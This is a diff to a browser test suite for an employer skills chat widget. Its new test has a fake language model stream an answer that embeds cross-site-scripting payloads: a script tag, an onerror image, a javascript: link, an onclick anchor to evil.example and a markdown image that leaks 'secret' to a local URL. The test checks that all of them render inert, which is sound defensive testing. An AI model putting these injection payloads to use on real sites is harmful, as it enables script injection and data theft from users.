@@ -239,8 +239,12 @@ def test_partner_site_on_another_origin_at_phone_size(stack: Stack) -> None:
 
 def test_keyboard_only_from_launcher_to_sources_and_back(stack: Stack, context: Any) -> None:
     page = open_page(context, stack.api.url + "/demo")
-    page.keyboard.press("Shift+Tab")  # from the top of the page, backwards: the launcher is last
-    assert page.evaluate(FOCUSED)["cls"] == "launcher"
+    for _ in range(40):  # Tab through the host page: the launcher comes after its own links
+        page.keyboard.press("Tab")
+        if (page.evaluate(FOCUSED) or {}).get("cls") == "launcher":
+            break
+    else:
+        pytest.fail("the launcher is not reachable with Tab")
     page.keyboard.press("Enter")
     focus = page.evaluate(FOCUSED)
     assert focus["text"] == "I'm an employer" and focus["inPanel"]
@@ -337,11 +341,68 @@ def test_tool_result_renders_as_a_card(stack: Stack, context: Any) -> None:
     page = open_page(context, stack.api.url + "/")
     page.get_by_role("button", name="Skills help").click()
     page.get_by_role("button", name="I'm an employer").click()
-    question = ask(page, "How much is the apprenticeship levy?")
-    assert "pay bill" in question.inner_text()
-    answer = ask(page, "Our pay bill is £4.2m")
+    answer = ask(page, "What levy would we pay on a pay bill of £4.2m?")
     card = answer.locator("article.card.tool")
     card.wait_for()
     assert "£6,000" in card.inner_text()  # 0.5% of £4.2m minus the £15,000 allowance
     card.get_by_text("How this was worked out").click()
     assert card.locator("details li").count() >= 1
+
+
+HOSTILE_ANSWER = (
+    "The levy is **0.5%** of your annual pay bill [1].\n\n"
+    "- <img src=x onerror=\"window.__pwned='img'\"> allowance of £15,000 [1]\n"
+    "- <script>window.__pwned='script'</script> only over £3 million [1]\n\n"
+    "[Apply here](javascript:window.__pwned='link') and ![x](http://127.0.0.1:9/leak.png?q=secret) "
+    '<a href="https://evil.example" onclick="window.__pwned=\'a\'">offer</a> '
+    "https://example.org/a/really/long/address/without/any/spaces/that/must/wrap/inside/the/panel/instead/"
+    "of/pushing/it/wider/than/the/screen/0123456789012345678901234567890123456789 [1]\n\n"
+    "Reference " + "X" * 300 + " [1]"
+)
+
+
+@pytest.fixture(scope="module")
+def hostile_api(stack: Stack) -> Iterator[ApiServer]:
+    """The same index and settings, with a language model that writes markup and script into answers."""
+    from langchain_core.language_models.fake_chat_models import FakeListChatModel
+
+    from connector.services import Services
+
+    app = create_app(stack.settings)
+    # A short pause per streamed character, so the answer arrives in many pieces as from a real model.
+    model = FakeListChatModel(responses=[HOSTILE_ANSWER], sleep=0.004)
+    app.state.services = Services.build(stack.settings, llm=model)
+    api = ApiServer(app).start()
+    yield api
+    api.stop()
+
+
+def test_hostile_model_output_is_streamed_but_rendered_inert(hostile_api: ApiServer, context: Any) -> None:
+    page = open_page(context, hostile_api.url + "/demo")
+    page.evaluate(
+        f"""() => new MutationObserver(() => {{
+          const bubble = {ROOT}.querySelector('li.msg.bot[aria-busy]');
+          if (bubble && bubble.querySelector('.answer-text').textContent) window.__partial = true;
+        }}).observe({ROOT}, {{childList: true, subtree: true, characterData: true}})"""
+    )
+    page.get_by_role("button", name="Skills help").click()
+    page.get_by_role("button", name="I'm an employer").click()
+    answer = ask(page, LEVY_QUESTION)
+    page.wait_for_timeout(300)
+    assert page.evaluate("window.__pwned") is None
+    assert page.evaluate("window.__partial") is True, "text appeared before the answer was complete"
+    inside = page.evaluate(
+        f"""() => ({{
+          tags: [...{ROOT}.querySelectorAll('.answer-text *')].map(el => el.tagName.toLowerCase()),
+          hrefs: [...{ROOT}.querySelectorAll('a')].map(a => a.getAttribute('href')),
+          handlers: [...{ROOT}.querySelectorAll('*')].filter(el => [...el.attributes]
+                      .some(a => a.name.startsWith('on'))).length,
+          overflow: {ROOT}.querySelector('.scroll').scrollWidth - {ROOT}.querySelector('.scroll').clientWidth,
+        }})"""
+    )
+    assert set(inside["tags"]) <= {"p", "ul", "ol", "li", "strong", "br", "a", "span"}, inside["tags"]
+    assert all(h.startswith(("http://", "https://", "mailto:", "tel:")) for h in inside["hrefs"]), inside
+    assert not any("evil.example" in h or "leak.png" in h for h in inside["hrefs"])
+    assert inside["handlers"] == 0
+    assert inside["overflow"] <= 0, "long words wrap instead of widening the panel"
+    assert "0.5%" in answer.locator(".answer-text").inner_text()
